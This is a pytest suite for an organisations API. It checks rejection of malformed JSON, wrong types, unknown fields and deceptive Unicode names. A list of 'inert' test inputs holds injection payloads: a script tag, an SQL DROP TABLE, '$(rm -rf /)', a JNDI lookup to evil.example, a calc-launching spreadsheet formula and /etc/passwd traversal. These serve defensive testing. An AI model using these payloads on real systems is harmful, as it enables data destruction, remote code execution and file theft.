"""The corpus of RELIABILITY 5.4: bodies that two readers could understand differently."""

from __future__ import annotations

import json

import pytest

from hub.common.api.parsers import MAX_DEPTH, Malformed, strict_json
from hub.organisations.models import Organisation
from tests.conftest import Person

MALFORMED = {
    "nothing": b"",
    "half": b'{"name": "x"',
    "two documents": b'{"name": "x"} {}',
    "trailing comma": b'{"name": "x",}',
    "comment": b'{"name": "x"} // hi',
    "single quotes": b"{'name': 'x'}",
    "same key twice": b'{"name": "x", "name": "y"}',
    "same key twice, escaped": b'{"name": "x", "n\\u0061me": "y"}',
    "same key twice, inside": b'{"name": {"a": 1, "a": 2}}',
    "NaN": b'{"name": NaN}',
    "Infinity": b'{"name": -Infinity}',
    "beyond a double": b'{"name": 1e999}',
    "beyond 64 bits": b'{"name": 9223372036854775808}',
    "long integer": b'{"name": ' + b"9" * 5000 + b"}",
    "UTF-16": '{"name": "x"}'.encode("utf-16"),
    "Latin-1": '{"name": "é"}'.encode("latin-1"),
    "byte-order mark": b'\xef\xbb\xbf{"name": "x"}',
    "NUL": b'{"name": "a\\u0000b"}',
    "NUL in a key": b'{"a\\u0000b": 1}',
    "half a character": b'{"name": "\\ud800"}',
    "deep": b"[" * 33 + b"]" * 33,
    "very deep": b"[" * 200_000 + b"]" * 200_000,
    "very deep objects": b'{"a":' * 100_000 + b"1" + b"}" * 100_000,
}


@pytest.mark.parametrize("name", MALFORMED)
def test_what_is_no_strict_json_is_refused(name):
    with pytest.raises(Malformed) as refused:
        strict_json(MALFORMED[name])
    assert len(str(refused.value.detail)) < 100


def test_what_is_strict_json_is_taken():
    deep = b"[" * MAX_DEPTH + b"]" * MAX_DEPTH
    assert strict_json(deep)
    value = {"a": [1, -(2**63), 1.5, "é\u4e2d\U0001f600", True, None, {}]}
    assert strict_json(json.dumps(value).encode()) == value
    assert strict_json(json.dumps(value, ensure_ascii=False).encode()) == value


@pytest.mark.django_db
@pytest.mark.parametrize("name", MALFORMED)
def test_the_api_answers_400_and_stores_nothing(ada: Person, name):
    before = Organisation.objects.count()
    response = ada.api.generic(
        "POST",
        "/api/v1/organisations",
        MALFORMED[name],
        content_type="application/json",
        headers={"Idempotency-Key": "k"},
    )
    assert response.status_code == 400, response.content
    assert response.json()["code"] in {"malformed", "invalid_fields"}
    assert Organisation.objects.count() == before


WRONG = {
    "number for text": {"name": 10},
    "true for text": {"name": True},
    "list for text": {"name": ["x"]},
    "object for text": {"name": {}},
    "null for text": {"name": None},
    "missing": {},
    "list for the body": ["name"],
    "text for the body": "name",
    "number for the body": 1,
    "null for the body": None,
}


@pytest.mark.django_db
@pytest.mark.parametrize("name", WRONG)
def test_a_value_of_another_type_is_no_value(ada: Person, name):
    response = ada.api.post("/api/v1/organisations", WRONG[name], headers={"Idempotency-Key": "k"})
    assert (response.status_code, response.json()["code"]) == (400, "invalid_fields")


RANKS = [-1, 0, 257, 2**53, True, False, "10", "1_0", "\u0661", 1.0, 1e3, [8], {"rank": 8}]


@pytest.mark.django_db
@pytest.mark.parametrize("rank", RANKS)
def test_an_integer_is_an_integer(blaise: Person, federation, rank):
    place = federation.participations.get(organisation=blaise.organisation)
    response = blaise.api.post(f"/api/v1/participations/{place.pk}/rank", {"rank": rank})
    assert (response.status_code, response.json()["code"]) == (400, "invalid_fields")
    place.refresh_from_db()
    assert place.rank is None


@pytest.mark.django_db
@pytest.mark.parametrize("days", ["30", True, 0, 366, 30.0, None])
def test_days_are_days(ada: Person, days):
    response = ada.api.post("/api/v1/tokens", {"name": "notebook", "days": days})
    assert (response.status_code, response.json()["code"]) == (400, "invalid_fields")


@pytest.mark.django_db
@pytest.mark.parametrize("is_listed", [1, 0, "true", "yes", "on"])
def test_a_boolean_is_a_boolean(ada: Person, federation, is_listed):
    said = {
        "organisation": str(ada.organisation.pk),
        "name": "x",
        "charter": "y",
        "base_model": str(federation.base_model_id),
        "is_listed": is_listed,
    }
    response = ada.api.post("/api/v1/federations", said, headers={"Idempotency-Key": "k"})
    assert response.status_code == 400
    assert list(response.json()["errors"]) == ["is_listed"]


@pytest.mark.django_db
@pytest.mark.parametrize("field", ["role", "owner", "status", "state", "score", "id", "slug"])
def test_a_field_that_does_not_exist_is_an_error(ada: Person, field):
    said = {"name": "Bergen Bank", field: "approved"}
    response = ada.api.post("/api/v1/organisations", said, headers={"Idempotency-Key": "k"})
    assert (response.status_code, response.json()["code"]) == (400, "unknown_field")
    assert list(response.json()["errors"]) == [field]


NAMES = {
    "right-to-left override": "Bergen \u202eknaB",
    "left-to-right mark": "Bergen\u200e Bank",
    "isolate": "\u2066Bergen",
    "zero width": "Ber\u200bgen",
    "joiner": "Ber\u200dgen",
    "soft hyphen": "Ber\u00adgen",
    "line feed": "Bergen\nBank",
    "tab": "Bergen\tBank",
    "escape": "\x1b[31mBergen",
    "delete": "Bergen\x7f",
    "next line": "Bergen\u0085Bank",
    "line separator": "Bergen\u2028Bank",
    "private use": "Bergen\ue000",
    "look-alike": "B\u0435rgen",
    "Greek look-alike": "Bergen Bank\u03bf",
    "5,000 marks": "e" + "\u0301" * 5000,
    "120 characters, 115 of them marks": "Berge" + "\u0316" * 115,
    "blank": "   ",
    "a megabyte": "x" * 1_000_000,
    "121 characters": "x" * 121,
}


@pytest.mark.django_db
@pytest.mark.parametrize("case", NAMES)
def test_a_name_that_deceives_is_refused(ada: Person, case):
    before = Organisation.objects.count()
    response = ada.api.post(
        "/api/v1/organisations", {"name": NAMES[case]}, headers={"Idempotency-Key": "k"}
    )
    assert (response.status_code, response.json()["code"]) == (400, "invalid_fields")
    assert len(response.content) < 1000
    assert Organisation.objects.count() == before


INERT = [
    "<script>alert(1)</script>",
    "{{ settings.SECRET_KEY }}",
    "'; DROP TABLE organisations_organisation; --",
    "$(rm -rf /)",
    "=cmd|' /C calc'!A0",
    "${jndi:ldap://evil.example/x}",
    "../../etc/passwd",
    "%s %d %n",
    "北京大学",
    "Ærø Sparekasse",
    "बैंक",
    "مصرف",
]


@pytest.mark.django_db
@pytest.mark.parametrize("name", INERT)
def test_what_only_looks_dangerous_is_stored_as_it_is(ada: Person, name):
    response = ada.api.post(
        "/api/v1/organisations", {"name": name}, headers={"Idempotency-Key": "k"}
    )
    assert (response.status_code, response.json()["name"]) == (201, name)


@pytest.mark.django_db
def test_a_name_is_stored_in_one_form(ada: Person):
    response = ada.api.post(
        "/api/v1/organisations", {"name": "  Cafe\u0301 "}, headers={"Idempotency-Key": "k"}
    )
    assert response.json()["name"] == "Café"
